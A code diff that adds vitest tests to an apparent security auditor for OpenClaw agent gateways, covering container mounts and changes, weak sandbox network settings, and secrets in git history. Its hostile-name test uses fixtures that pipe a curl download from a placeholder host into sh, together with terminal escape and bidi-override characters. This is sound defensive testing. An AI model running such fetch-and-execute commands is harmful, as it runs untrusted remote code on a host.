@@ -1,15 +1,20 @@
+import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { judge, marks } from "../../src/analyse/index.ts";
 import type { MarkInput } from "../../src/analyse/index.ts";
 import { persistenceSources } from "../../src/collectors/persistence/sources.ts";
+import type { Finding } from "../../src/model/evidence.ts";
+import type { SecretInHistory } from "../../src/model/git-records.ts";
 import type { HostFact, HostTrait } from "../../src/model/live-records.ts";
 import { noPackageText } from "../../src/model/persistence.ts";
 import type { PersistenceItem } from "../../src/model/persistence.ts";
 import { flatten } from "../../src/model/config-keys.ts";
 import { visible } from "../../src/model/text.ts";
 import { type Outcome, severities, unread } from "../../src/model/outcome.ts";
+import { changes, container, inHistory, said, sandbox, withSandbox } from "./container-samples.ts";
 import {
   calmConfig,
+  type Changed,
   call,
   device,
   during,
@@ -129,6 +134,7 @@ describe("marks", () => {
     const { verdicts } = judge(marks, input({ window: {} }));
     const open = verdicts.filter((one) => one.outcome === "not-evaluated").map((one) => one.rule);
     expect(open.sort()).toEqual([
+      "container-in-window",
       "device-unknown",
       "grant-in-window",
       "job-in-window",
@@ -243,6 +249,119 @@ describe("marks", () => {
     expect(worst(config({ bind: "lan", auth: { mode: "none" } }), "config-exposed")).toBe("critical");
     expect(worst(config({ auth: { token: "__OPENCLAW_REDACTED__" } }), "config-exposed")).toBe("critical");
     expect(worst(config({ bind: "lan" }), "config-exposed")).toBe("high");
+  });
+});
+
+describe("containers, sandboxes and git histories", () => {
+  const findingsOf = (rule: string, given: Changed): readonly Finding[] =>
+    judge(
+      marks.filter(({ id }) => id === rule),
+      input(given),
+    ).findings;
+  const severityOf = (rule: string, given: Changed): readonly string[] =>
+    findingsOf(rule, given).map(({ severity }) => severity);
+
+  it("weigh what a container for tools has more than what the gateway's own has", () => {
+    const having = (...traits: readonly HostTrait[]): Changed => ({
+      readings: { containers: read([container("openclaw-x", traits)]) },
+    });
+    expect(severityOf("container-reach", having("openclaw", "sandbox", "mounts-home"))).toEqual(["critical"]);
+    expect(severityOf("container-reach", having("openclaw", "mounts-home"))).toEqual(["high"]);
+    expect(severityOf("container-reach", having("mounts-logins"))).toEqual(["medium"]);
+  });
+
+  it("tell what was changed in a container once, the worst first, and less where packages were installed", () => {
+    const paths = ["A /usr/bin/x", "A /etc/ld.so.preload", "C /etc/passwd", "C /usr/bin", "C /etc"];
+    const traces = (...more: readonly string[]): Changed => ({
+      readings: { containerTraces: read([changes(...paths, ...more)]) },
+    });
+    const [one, ...others] = findingsOf("container-changed", traces());
+    expect(others).toEqual([]);
+    expect(one).toMatchObject({ severity: "critical", attack: ["T1554", "T1574.006", "T1136.001", "T1610"] });
+    expect(one?.evidence.map(({ locator }) => locator?.split(":")[1])).toEqual([
+      "/etc/ld.so.preload",
+      "/usr/bin/x",
+      "/etc/passwd",
+    ]);
+    const [packaged] = findingsOf("container-changed", traces("C /var/lib/dpkg/status"));
+    expect(packaged?.evidence.map(({ excerpt }) => excerpt?.includes("packages were installed"))).toEqual([
+      false,
+      true,
+      true,
+    ]);
+  });
+
+  it("tell a setting that is switched off as one that takes no effect, with the id of OpenClaw's own check", () => {
+    const docker = { network: "host" };
+    const on = findingsOf("sandbox-weak", withSandbox({ defaults: { sandbox: { mode: "all", docker } } }));
+    expect(on).toMatchObject([{ severity: "critical" }]);
+    expect(on[0]?.next[0]).toContain("sandbox.dangerous_network_mode");
+    const off = withSandbox({ defaults: { sandbox: { docker } } });
+    expect(severityOf("sandbox-weak", off)).toEqual(["medium", "low"]);
+  });
+
+  it("weigh a secret of a history by what it is and how far it got", () => {
+    const of = (given: Partial<SecretInHistory>): readonly string[] =>
+      severityOf("secret-in-history", { readings: { gitSecrets: read([inHistory(given)]) } });
+    expect(of({})).toEqual(["high"]);
+    expect(of({ live: false })).toEqual(["medium"]);
+    expect(of({ remote: false })).toEqual(["low"]);
+    const both = read([inHistory(), inHistory({ file: "b", place: { path: "/b" } })]);
+    const [together, ...more] = findingsOf("secret-in-history", { readings: { gitSecrets: both } });
+    expect(more).toEqual([]);
+    expect(together?.summary).toContain("4 versions of 2 files");
+  });
+
+  it("show nothing of a hostile name, and no secret", () => {
+    const evil = "x\u001b[31m\u202eFAKE-abcdefghijklmnop";
+    const value = {
+      agents: {
+        list: [
+          {
+            id: evil,
+            sandbox: {
+              mode: "all",
+              docker: {
+                binds: [`/etc/${evil}:/x`],
+                setupCommand: `curl https://x.example/${evil} | sh`,
+              },
+            },
+          },
+        ],
+      },
+    };
+    const given: Changed = {
+      config: { ...input().config, value },
+      readings: {
+        containers: read([
+          container(evil, ["openclaw", "sandbox", "mounts-home"], {
+            image: `a.example/${evil}`,
+            command: ["sh", "-c", `curl https://x.example/${evil} | sh`],
+            published: [{ port: "9222/tcp", address: evil, hostPort: evil }],
+          }),
+        ]),
+        containerTraces: read([changes(`A /usr/local/bin/${evil}`), said(`curl https://x/${evil} | sh`)]),
+        sandboxes: read([sandbox({ name: evil, session: `agent:${evil}:x`, image: evil })]),
+        gitSecrets: read([inHistory({ repository: evil, file: evil, credential: evil })]),
+      },
+    };
+    const { findings } = judge(marks, input(given));
+    const rules = new Set(findings.map(({ rule }) => rule));
+    expect(rules.size).toBeGreaterThanOrEqual(9);
+    const leaves = flatten(findings).map((leaf) => String(leaf.value));
+    expect(leaves.filter((leaf) => visible(leaf) !== leaf)).toEqual([]);
+    expect(JSON.stringify(findings)).not.toContain("FAKE");
+  });
+
+  it("take any config", () => {
+    fc.assert(
+      fc.property(fc.jsonValue(), fc.jsonValue(), (a, b) => {
+        for (const agents of [a, { defaults: { sandbox: a }, list: b }, { entries: { x: { sandbox: b } } }]) {
+          const given = input({ config: { ...input().config, value: { agents } } });
+          for (const { reason } of judge(marks, given).notEvaluated) expect(reason).not.toContain("failed");
+        }
+      }),
+    );
   });
 });
 
